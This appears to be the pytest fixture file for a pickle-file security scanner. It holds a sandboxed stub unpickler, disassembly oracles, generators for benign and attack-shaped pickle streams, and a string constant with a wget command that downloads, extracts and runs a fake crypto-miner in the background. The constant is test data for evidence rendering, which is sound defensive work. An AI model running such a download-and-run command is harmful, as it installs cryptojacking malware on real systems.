"""Shared fixtures and oracle helpers.

Two independent oracles anchor the suite: the interpreter's own reference
disassembler (``pickletools.genops``) for instruction transcripts, and the
real loader run inside a stubbed sacrificial unpickler for stream
semantics.  Everything derived is computed here, never invented.
"""

from __future__ import annotations

import io
import pickle
import pickletools
import random
from pathlib import Path

import pytest

from modelsentry import absvm
from modelsentry.forge import emit_corpus
from modelsentry.policy import default_policy

SEVERITY_ORDER = {"INFO": 10, "LOW": 20, "MEDIUM": 30, "HIGH": 40, "CRITICAL": 50}

# The published download-and-mine command, used strictly as string content in
# evidence-rendering checks; nothing ever executes it and the host is fake.
INERT_ATTACK_COMMAND = (
    "wget https://github.com/malicious_user/malicious_crypto_gpu_miner/releases/"
    "download/v1.2.2/malicious-crypto-gpu-miner.tar.gz && "
    "tar -xzf malicious-crypto-gpu-miner.tar.gz && "
    "cd malicious-crypto-gpu-miner && nohup ./mine &"
)


class StubUnpickler(pickle.Unpickler):
    """Sacrificial-environment loader: real stack machine, inert globals.

    Mirrors running the reference loader in a disposable sandbox; any
    callable the stream resolves becomes a recorder stub, so loading a
    marker fixture spawns nothing.
    """

    def __init__(self, data: bytes, calls: list | None = None):
        super().__init__(io.BytesIO(data))
        self.calls = calls if calls is not None else []

    def find_class(self, module, name):
        def stub(*args, **kwargs):
            self.calls.append((module, name, args))
            return f"<stub {module}.{name}>"

        return stub

    def persistent_load(self, pid):
        return f"<pid {pid!r}>"


def stub_load(data: bytes):
    return StubUnpickler(data).load()


def reference_transcript(stream: bytes) -> list[str]:
    """Normalized pickletools.genops transcript: one ``pos name arg`` line per op."""
    lines = []
    for opcode, arg, pos in pickletools.genops(stream):
        if isinstance(arg, bytearray):
            arg = bytes(arg)
        lines.append(f"{pos} {opcode.name} {arg!r}")
    return lines


def own_transcript(stream: bytes) -> list[str]:
    """Same normal form produced from this project's disassembler."""
    from modelsentry.disasm import disassemble

    lines = []
    for instr in disassemble(stream).instructions:
        arg = instr.arg
        if isinstance(arg, tuple):
            arg = " ".join(arg)  # genops joins the GLOBAL/INST pair with a space
        lines.append(f"{instr.offset} {instr.mnemonic} {arg!r}")
    return lines


# ---------------------------------------------------------------------------
# Benign stream generation (for the semantics and transcript oracles)


def random_benign_value(rng: random.Random, protocol: int, depth: int = 0) -> object:
    """A value the real pickler serializes with container/primitive opcodes only.

    Kinds that pickle through REDUCE at low protocols (sets, bytes) are only
    produced where the stream stays call-free, keeping the abstract graph
    directly comparable to the loaded object.
    """
    leaf_kinds = ["none", "bool", "int", "bigint", "float", "str"]
    if protocol >= 3:
        leaf_kinds.append("bytes")
    kinds = list(leaf_kinds)
    if depth < 3:
        kinds += ["list", "tuple", "dict"]
        if protocol >= 4:
            kinds += ["set", "frozenset"]
    kind = rng.choice(kinds)
    if kind == "none":
        return None
    if kind == "bool":
        return rng.random() < 0.5
    if kind == "int":
        return rng.randint(-1000, 70000)
    if kind == "bigint":
        return rng.randint(-(2**70), 2**70)
    if kind == "float":
        return rng.choice([0.0, -1.25, 3.5, 1e300, -2.75]) * rng.randint(1, 9)
    if kind == "str":
        words = ["alpha", "beta", "gamma", "x" * 40, "naïve", "λx", ""]
        return rng.choice(words)
    if kind == "bytes":
        return bytes(rng.randrange(256) for _ in range(rng.randint(0, 12)))
    if kind == "list":
        return [random_benign_value(rng, protocol, depth + 1) for _ in range(rng.randint(0, 4))]
    if kind == "tuple":
        return tuple(
            random_benign_value(rng, protocol, depth + 1) for _ in range(rng.randint(0, 4))
        )
    if kind == "dict":
        return {
            f"k{i}_{rng.randint(0, 99)}": random_benign_value(rng, protocol, depth + 1)
            for i in range(rng.randint(0, 4))
        }
    if kind == "set":
        return {rng.randint(0, 1000) for _ in range(rng.randint(0, 5))}
    return frozenset(rng.randint(0, 1000) for _ in range(rng.randint(0, 5)))


def benign_streams(count: int, seed: int = 7) -> list[tuple[str, bytes, object]]:
    """(name, stream, value) triples across protocols 0/2/4 (plus one 5)."""
    rng = random.Random(seed)
    out = []
    protocols = [0, 2, 4]
    for index in range(count):
        proto = protocols[index % len(protocols)]
        value = random_benign_value(rng, proto)
        out.append((f"benign_{index}_p{proto}", pickle.dumps(value, proto), value))
    return out


# Handcrafted single-purpose streams exercising the rarely-emitted opcodes.
RARE_OPCODE_STREAMS: list[tuple[str, bytes]] = [
    ("ext1", b"\x80\x02\x82\x07."),
    ("ext2", b"\x80\x02\x83\x07\x00."),
    ("ext4", b"\x80\x02\x84\x07\x00\x00\x00."),
    ("long4", b"\x80\x02\x8b\x02\x00\x00\x00\xff\x7f."),
    ("long4_empty", b"\x80\x02\x8b\x00\x00\x00\x00."),
    ("binstring", b"T\x03\x00\x00\x00abc."),
    ("short_binstring", b"U\x03abc."),
    ("string_p0", b"S'abc'\n."),
    ("string_escapes", rb"S'a\n\x00b'" + b"\n."),
    ("unicode_p0", b"V\\u00e9clair\n."),
    ("persid", b"Pweights.0\n."),
    ("binpersid", b"U\x02idQ."),
    ("dup", b"(N2t."),
    ("pop", b"NN0."),
    ("pop_mark", b"N(NN1."),
    ("long_binget_binput", b"]r\x05\x00\x00\x00j\x05\x00\x00\x00a."),
    ("binunicode8", b"\x80\x04\x8d\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("binbytes8", b"\x80\x04\x8e\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("bytearray8", b"\x80\x05\x96\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("newobj", b"\x80\x02cmod\nCls\n)\x81."),
    ("newobj_ex", b"\x80\x04\x8c\x03mod\x8c\x03Cls\x93)}\x92."),
    ("obj", b"(cmod\nCls\nNo."),
    ("inst", b"(Vx\nimod\nCls\n."),
    ("additems", b"\x80\x04\x8f(K\x01K\x02\x90."),
    ("frozenset_op", b"\x80\x04(K\x01K\x02\x91."),
    ("next_buffer", b"\x80\x05\x97."),
    ("readonly_buffer", b"\x80\x05\x97\x98."),
    ("text_get_put", b"]p5\ng5\na."),
    ("dict_p0", b"(dVk\nI1\ns."),
    ("binfloat", b"\x80\x02G?\xf4\x00\x00\x00\x00\x00\x00."),
]


def transcript_stream_set() -> list[tuple[str, bytes]]:
    """Deterministic set of >= 50 valid streams across protocols 0/2/4.

    Mixes the attack shapes with generated benign values; used for the
    transcript-equivalence check and its committed golden file.
    """
    from modelsentry.forge import (
        DEFAULT_MARKER,
        benign_state_dict_pickle,
        emit_dynamic_global_pickle,
        emit_injected_pickle,
        emit_reduce_payload_pickle,
    )

    streams: list[tuple[str, bytes]] = []
    for proto in (0, 2, 4):
        streams.append((f"reduce_p{proto}", emit_reduce_payload_pickle(DEFAULT_MARKER, proto)))
        streams.append(
            (
                f"injected_p{proto}",
                emit_injected_pickle([1, {"a": "b"}], DEFAULT_MARKER, proto),
            )
        )
    streams.append(("dynamic_p4", emit_dynamic_global_pickle(4)))
    streams.append(("state_dict_p2", benign_state_dict_pickle()))
    for name, stream, _ in benign_streams(45, seed=11):
        streams.append((name, stream))
    return streams


# ---------------------------------------------------------------------------
# Structural comparison against the real loader


def structural_match(node, real, memo, _seen: frozenset = frozenset()) -> bool:
    """Does the abstract graph mirror the loaded value, shape for shape?"""
    hops = 0
    while isinstance(node, absvm.MemoRef):
        if node.index in _seen or node.index not in memo or hops > 64:
            return False
        _seen = _seen | {node.index}
        node = memo[node.index]
        hops += 1
    if isinstance(node, absvm.Primitive):
        return type(node.value) is type(real) and node.value == real
    if isinstance(node, absvm.Container):
        if node.kind == "list":
            return (
                isinstance(real, list)
                and len(real) == len(node.elements)
                and all(
                    structural_match(item, actual, memo, _seen)
                    for item, actual in zip(node.elements, real)
                )
            )
        if node.kind == "tuple":
            return (
                isinstance(real, tuple)
                and len(real) == len(node.elements)
                and all(
                    structural_match(item, actual, memo, _seen)
                    for item, actual in zip(node.elements, real)
                )
            )
        if node.kind == "dict":
            if not isinstance(real, dict) or len(real) != len(node.elements):
                return False
            for key, value in node.elements:
                literal = _resolve_literal(key, memo)
                if literal not in real:
                    return False
                if not structural_match(value, real[literal], memo, _seen):
                    return False
            return True
        if node.kind in ("set", "frozenset"):
            expected_type = set if node.kind == "set" else frozenset
            literals = {_resolve_literal(item, memo) for item in node.elements}
            return type(real) is expected_type and literals == set(real)
    return False


def _resolve_literal(node, memo):
    hops = 0
    while isinstance(node, absvm.MemoRef) and node.index in memo and hops < 64:
        node = memo[node.index]
        hops += 1
    if isinstance(node, absvm.Primitive):
        return node.value
    return object()  # never a key in the real dict


# ---------------------------------------------------------------------------
# Session corpus


@pytest.fixture(scope="session")
def corpus_dir(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("corpus_root") / "corpus"
    emit_corpus(directory, seed=0)
    return directory


@pytest.fixture(scope="session")
def corpus_manifest(corpus_dir) -> list[dict]:
    import json

    return json.loads((corpus_dir / "corpus_manifest.json").read_text())["fixtures"]


@pytest.fixture(scope="session")
def policy():
    return default_policy()
